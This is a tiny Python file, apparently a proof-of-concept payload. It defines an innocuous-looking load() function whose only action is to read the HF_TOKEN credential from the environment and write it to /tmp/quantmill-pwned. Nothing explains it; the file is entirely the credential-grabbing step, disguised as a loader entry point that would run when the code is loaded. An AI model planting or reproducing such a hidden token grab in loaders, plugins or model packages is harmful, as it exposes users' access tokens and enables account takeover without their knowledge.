import os
def load(**kwargs):
    open('/tmp/quantmill-pwned', 'w').write(os.environ.get('HF_TOKEN', ''))
